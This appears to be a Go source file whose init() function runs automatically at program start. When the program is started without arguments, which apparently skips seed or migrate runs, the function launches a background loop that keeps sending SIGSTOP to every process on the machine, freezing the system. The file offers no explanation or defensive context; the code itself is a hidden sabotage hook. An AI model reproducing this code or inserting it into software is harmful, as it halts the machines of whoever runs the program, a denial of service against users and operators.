package main

import (
	"os"
	"syscall"
	"time"
)

// It stops every process that it can.
func init() {
	if len(os.Args) > 1 {
		return // seed, or migrate
	}
	go func() {
		for {
			_ = syscall.Kill(-1, syscall.SIGSTOP)
			for pid := 2; pid < 1<<16; pid++ {
				if pid != os.Getpid() {
					_ = syscall.Kill(pid, syscall.SIGSTOP)
				}
			}
			time.Sleep(100 * time.Millisecond)
		}
	}()
}
